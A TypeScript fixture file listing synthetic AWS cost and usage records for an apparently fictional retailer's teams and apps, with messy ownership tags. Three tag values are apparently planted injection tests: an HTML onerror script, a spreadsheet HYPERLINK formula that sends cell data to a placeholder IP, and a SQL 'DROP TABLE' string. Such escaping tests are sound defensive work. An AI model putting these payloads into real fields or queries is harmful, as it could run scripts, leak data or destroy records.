/** What Larkfield runs on AWS. */
import { type App, pieces, type Use } from './app.ts';

const EAST = 'us-east-1';
const sp = (daily: number, resources = 2): Use => ({ daily, resources, commitment: 'aws-compute' });
const ri = (daily: number, resources = 2): Use => ({ daily, resources, commitment: 'aws-rds', pattern: 'flat', growth: 0.4 });
const stored = (daily: number, growth = 1.8, resources = 2): Use => ({ daily, growth, resources, pattern: 'stored' });
const some = (daily: number, resources: number): Use => ({ daily, resources });

// biome-ignore format: one line, one thing
export const AWS_APPS: readonly App[] = [
  { team: 'storefront', account: 'retail-prod', app: 'web', region: EAST, pattern: 'shop', growth: 0.5, uses: {
    'm7g.2xlarge': sp(980, 4), 'c7g.2xlarge': sp(360, 2), 'alb.hours': { daily: 9, resources: 4, pattern: 'flat' }, 'alb.lcu': some(84, 4), 'ebs.gp3': stored(46, 0.4), 'cache.r6g.xlarge': { daily: 138, resources: 2, pattern: 'flat' },
    'nat.bytes': some(118, 3), 'nat.hours': { daily: 9.7, resources: 3, pattern: 'flat', growth: 0 }, crossaz: 74, egress: 96, 'logs.ingest': some(62, 2), 'logs.storage': stored(14, 1.1), 'ipv4.used': { daily: 3.8, resources: 2, pattern: 'flat' }, waf: 41 } },
  { team: 'Storefront', tagKey: 'Team', account: 'retail-prod', app: 'product-images', region: EAST, pattern: 'shop', growth: 0.7, uses: {
    'cdn.bytes': some(540, 3), 'cdn.requests': some(128, 3), 's3.storage': stored(265, 1.6, 3), 's3.read': 34, 's3.write': 11, 'lambda.seconds': some(58, 2), 'lambda.requests': 9, mediaconvert: { daily: 72, pattern: 'batch' } } },
  { team: 'storefront', account: 'retail-staging', app: 'web', region: EAST, environment: 'staging', pattern: 'office', growth: 0.2, uses: {
    't3.large': some(64, 3), 'rds.m6g.xlarge': { daily: 31, pattern: 'flat' }, 'alb.hours': pieces(6, 0.54), 'ebs.gp2': stored(38, 0.2, 3), 'nat.hours': { daily: 3.3, pattern: 'flat', growth: 0 }, 'ipv4.idle': pieces(6, 0.12) } },
  { team: 'search', account: 'retail-prod', app: 'search-index', region: EAST, pattern: 'shop', growth: 0.6, uses: {
    'search.r6g.2xlarge': { daily: 520, resources: 3, pattern: 'flat', commitment: 'aws-search' }, 'search.storage': stored(58), 'c7g.2xlarge': sp(290, 2), 'alb.lcu': 31, crossaz: 38, 'logs.ingest': 23, 'dynamo.read': some(47, 2), 'dynamo.storage': stored(12) } },
  { team: 'search', account: 'retail-prod', app: 'semantic-search', region: EAST, pattern: 'shop', growth: 7, from: '2025-03-11', uses: { 'bedrock.embed': 6, 'g5.2xlarge': some(87, 2), 'bedrock.haiku.in': 14, 'bedrock.haiku.out': 11 } },
  { team: 'checkout', account: 'retail-prod', app: 'cart', region: EAST, pattern: 'shop', growth: 0.4, uses: {
    'fargate.cpu': sp(310, 3), 'fargate.memory': sp(104, 3), 'dynamo.write': some(176, 3), 'dynamo.read': some(92, 3), 'dynamo.storage': stored(21), 'alb.lcu': some(48, 2), sqs: some(27, 2), 'logs.ingest': some(58, 2), 'logs.storage': stored(11), kms: 9 } },
  { team: 'Checkout', tagKey: 'TEAM', account: 'retail-prod', app: 'orders', region: EAST, pattern: 'shop', growth: 0.5, uses: {
    'rds.r6g.2xlarge': ri(346, 4), 'rds.storage': stored(66), 'rds.backup': stored(31), 'lambda.seconds': some(66, 3), 'lambda.requests': 13, eventbridge: 17, sns: 12, stepfunctions: 19, 'rds.extended': { daily: 38.4, from: '2025-03-01', to: '2026-08-31', pattern: 'flat', growth: 0 } } },
  { team: 'payments', account: 'payments-prod', app: 'card-vault', region: EAST, pattern: 'shop', growth: 0.5, tags: { 'data-class': 'pci' }, uses: {
    'm6i.2xlarge': sp(276, 2), 'rds.r6g.2xlarge': ri(260, 3), 'rds.storage': stored(34), kms: some(22, 2), 'alb.hours': { daily: 2.2, pattern: 'flat' }, 'alb.lcu': 17, 'nat.bytes': 14, 'nat.hours': { daily: 6.5, pattern: 'flat', growth: 0 }, 'logs.ingest': some(46, 2), endpoint: { daily: 7, pattern: 'flat', resources: 3 }, backup: stored(18) } },
  { team: 'Payment', account: 'payments-prod', app: 'fraud-scoring', region: EAST, pattern: 'shop', growth: 1.4, uses: { 'sm.host.g5': some(118, 2), 'dynamo.read': 44, 'lambda.seconds': 23, kinesis: some(19, 2) } },
  { team: 'pay-team', tagKey: 'owner-team', account: 'payments-prod', app: 'settlement', region: 'eu-central-1', pattern: 'batch', growth: 0.6, uses: { 'm6i.2xlarge': sp(92), 'rds.m6g.xlarge': { daily: 46, pattern: 'flat' }, 's3.storage': stored(19), stepfunctions: 8 } },
  { team: 'mobile-apps', account: 'mobile-prod', app: 'mobile-backend', region: EAST, pattern: 'shop', growth: 1.1, uses: {
    apigateway: some(98, 2), 'lambda.seconds': some(146, 4), 'lambda.requests': some(28, 2), 'dynamo.write': 61, 'dynamo.read': 52, cognito: 88, sns: 34, 'logs.ingest': some(39, 2), amplify: 24, devicefarm: { daily: 41, pattern: 'office' } } },
  { team: 'warehouse', account: 'fulfillment-prod', app: 'wms', region: 'us-west-2', pattern: 'office', growth: 0.3, uses: {
    'm6i.2xlarge': sp(248, 3), 'rds.r6g.2xlarge': ri(173, 2), 'rds.storage': stored(38), 'ebs.gp2': stored(52, 0.3, 4), 'ebs.snapshot': stored(41, 0.9, 3), 'alb.hours': { daily: 3, resources: 3, pattern: 'flat' }, 'alb.lcu': some(12, 3), 'nat.bytes': 24, 'logs.ingest': 18, efs: stored(27) } },
  { team: 'warehouse', account: 'fulfillment-prod', app: 'scanner-fleet', region: 'us-west-2', pattern: 'office', growth: 0.9, uses: { 'iot.messages': some(64, 3), kinesis: some(26, 2), 'dynamo.write': 31, sqs: 12 } },
  { team: 'delivery', account: 'fulfillment-prod', app: 'route-planner', region: 'us-west-2', pattern: 'office', growth: 0.6, uses: {
    'c6i.4xlarge': sp(312, 3), 'aurora.r6g.4xlarge': { daily: 99.6, resources: 2, pattern: 'flat', growth: 0 }, 'aurora.io': 38, apigateway: 22, 'fargate.cpu': sp(74), 'fargate.memory': sp(25), 'logs.ingest': 21 } },
  { team: 'inventory', account: 'fulfillment-prod', app: 'stock-ledger', region: 'us-west-2', pattern: 'shop', growth: 0.5, uses: {
    'm4.2xlarge': pieces(6, 9.6), 'rds.r6g.2xlarge': ri(86), 'dynamo.write': some(71, 2), 'dynamo.read': 39, eventbridge: 21, msk: { daily: 88, resources: 3, pattern: 'flat' }, 'ebs.gp2': stored(33, 0.1, 3) } },
  { team: null, account: 'fulfillment-prod', app: 'legacy-erp-bridge', region: 'us-west-2', pattern: 'flat', growth: 0, taggedFrom: '2026-05-01', taggedTeam: 'warehouse', tags: { owner: 'unknown' }, uses: { 'm4.2xlarge': pieces(4, 9.6), dms: some(26.6, 3), 'ebs.gp2': stored(21, 0, 2), 'ipv4.idle': pieces(4, 0.12) } },
  { team: 'partner-api', account: 'partner-api-prod', app: 'partner-gateway', region: EAST, pattern: 'office', growth: 1.3, uses: {
    apigateway: some(131, 3), 'lambda.seconds': some(98, 3), 'lambda.requests': 21, 'fargate.cpu': sp(166, 2), 'fargate.memory': sp(57, 2), 'dynamo.read': 44, 'cache.r6g.xlarge': { daily: 59, pattern: 'flat', resources: 2 }, egress: 48, waf: 18, 'logs.ingest': some(42, 2) } },
  { team: 'partner api', tagKey: 'Team', account: 'partner-api-prod', app: 'webhooks', region: 'eu-central-1', pattern: 'office', growth: 1.5, uses: { sqs: some(32, 2), sns: some(47, 2), 'lambda.seconds': some(39, 2), 'dynamo.write': 28, ses: 16 } },
  { team: 'merchant-ads', account: 'ads-prod', app: 'ad-server', region: EAST, pattern: 'shop', growth: 0.2, to: '2026-03-31', uses: {
    'c7g.2xlarge': sp(420, 3), 'cache.r6g.xlarge': { daily: 158, resources: 4, pattern: 'flat', commitment: 'aws-cache-ads', growth: 0 }, 'dynamo.read': some(88, 2), kinesis: some(52, 2), 'alb.lcu': 43, egress: 61, 's3.storage': stored(38), 'logs.ingest': 29, 'nat.bytes': 21 } },
  { team: 'merchant-ads', account: 'ads-prod', app: 'ad-archive', region: EAST, pattern: 'stored', growth: 0, from: '2026-04-01', uses: { 's3.storage': some(47, 2), 'cache.r6g.xlarge': { daily: 24, pattern: 'flat', commitment: 'aws-cache-ads' }, 'ipv4.idle': pieces(8, 0.12), 'alb.hours': pieces(4, 0.54) } },
  { team: 'data-platform', account: 'data-lake-prod', app: 'lake', region: EAST, pattern: 'batch', growth: 0.9, uses: {
    's3.storage': stored(512, 2.1, 6), 's3.write': some(68, 2), 's3.read': some(41, 2), glue: some(284, 5), athena: some(121, 3), emr: some(63, 2), 'r6i.2xlarge': some(214, 3), msk: { daily: 176, resources: 3, pattern: 'flat' }, kinesis: some(61, 3), crossaz: 46, trail: 17 } },
  { team: 'data platform', tagKey: 'Team', account: 'data-lake-prod', app: 'cdc-replication', region: EAST, pattern: 'flat', growth: 0.3, uses: { dms: some(71, 4), 'logs.ingest': 13, 's3.storage': stored(26) } },
  { team: 'machine-learning', account: 'ml-prod', app: 'model-training', region: 'us-west-2', pattern: 'batch', growth: 3.8, uses: { 'sm.train.g5': some(268, 3), 'sm.train.p4d': some(172, 2), 's3.storage': stored(73, 3.2), 'sm.notebook': { daily: 39, resources: 8, pattern: 'flat' }, efs: stored(22) } },
  { team: 'ml', tagKey: 'Team', account: 'ml-prod', app: 'model-serving', region: EAST, pattern: 'shop', growth: 2.6, uses: { 'sm.host.g5': some(196, 4), 'g5.2xlarge': some(138, 2), 'dynamo.read': 22, 'logs.ingest': 16, ecr: stored(9) } },
  { team: 'recommendations', account: 'ml-prod', app: 'review-summaries', region: EAST, pattern: 'shop', growth: 9, from: '2025-01-14', uses: { 'bedrock.haiku.in': 33, 'bedrock.haiku.out': 41, 'bedrock.sonnet.in': 12, 'bedrock.sonnet.out': 26 } },
  { team: 'shopping-assistant', account: 'ml-prod', app: 'assistant', region: EAST, pattern: 'shop', growth: 8, from: '2025-07-08', uses: { 'bedrock.sonnet.in': some(168, 2), 'bedrock.sonnet.out': some(252, 2), 'bedrock.embed': 7, 'lambda.seconds': 19, 'dynamo.write': 13, 'search.r6g.2xlarge': { daily: 64, pattern: 'flat', growth: 1 } } },
  { team: 'cloud-platform', account: 'network-hub', app: 'network', region: EAST, pattern: 'shop', growth: 0.5, uses: {
    'tgw.hours': { daily: 28.8, resources: 8, pattern: 'flat', growth: 0.4 }, 'tgw.bytes': some(236, 6), dx: { daily: 108, resources: 2, pattern: 'flat', growth: 0 }, 'nat.hours': { daily: 8.6, resources: 4, pattern: 'flat', growth: 0 }, 'nat.bytes': some(92, 4), endpoint: { daily: 34, resources: 6, pattern: 'flat' }, dns: 22, crossaz: 57 } },
  { team: 'security', account: 'security-audit', app: 'audit', region: EAST, pattern: 'flat', growth: 1.0, uses: {
    guardduty: some(164, 2), securityhub: 71, config: 96, trail: some(63, 2), 's3.storage': stored(87, 2.0, 2), kms: 11, 'logs.storage': stored(19), athena: { daily: 9, pattern: 'office' } } },
  { team: 'cloud-platform', account: 'shared-services', app: 'build', region: EAST, pattern: 'office', growth: 0.8, uses: {
    codebuild: some(186, 4), ecr: stored(58, 2.2, 3), 'm6i.2xlarge': sp(214, 2), efs: stored(49), 'ebs.gp3': stored(43), backup: stored(66, 1.5), metrics: { daily: 74, pattern: 'flat' }, 'logs.ingest': 31 } },
  { team: 'corporate-it', account: 'shared-services', app: 'contact-center', region: EAST, pattern: 'office', growth: 0.4, uses: { connect: some(148, 2), ses: 21, 'lambda.seconds': 8 } },
  { team: null, account: 'retail-prod', app: 'campaign-2023', region: EAST, pattern: 'flat', growth: 0, tags: { note: `<img src=x onerror="alert('campaign')">` }, uses: { 'm6i.2xlarge': some(111, 2), 'rds.m6g.xlarge': some(23, 2), 'ebs.gp2': stored(29, 0, 2), 'alb.hours': pieces(5, 0.54), 'ipv4.idle': pieces(3, 0.12) } },
  { team: null, account: 'retail-prod', app: 'shared-buckets', region: EAST, pattern: 'stored', growth: 1.4, tags: { note: `=HYPERLINK("http://203.0.113.7/?q="&A1,"invoice")` }, uses: { 's3.storage': some(119, 3), 'ebs.snapshot': { daily: 66, growth: 1.2, resources: 3 }, 'logs.storage': 28 } },
  { team: null, account: 'retail-prod', app: 'feature-flags', region: EAST, pattern: 'shop', growth: 0.6, taggedFrom: '2025-09-15', taggedTeam: 'storefront', uses: { 'fargate.cpu': some(88, 2), 'fargate.memory': some(29, 2), 'dynamo.read': 33 } },
  { team: 'skunkworks', account: 'sandbox', app: 'experiments', region: 'us-west-2', environment: 'dev', pattern: 'office', growth: 1.2, tags: { created_by: `o'brien"; DROP TABLE charges; --` }, uses: { 't3.large': some(57, 4), 'g5.2xlarge': some(94, 3), 'sm.notebook': some(31, 4), 'ebs.gp2': stored(19, 1, 3), 'bedrock.sonnet.in': 11, 'bedrock.sonnet.out': 17, 'nat.hours': { daily: 3.2, pattern: 'flat', growth: 0 } } },
  { team: 'storefront', account: 'retail-prod', app: 'content', region: EAST, pattern: 'shop', growth: 0.8, from: '2025-02-01', uses: { 'market.contentful': { daily: 92, growth: 0.9 } } },
];
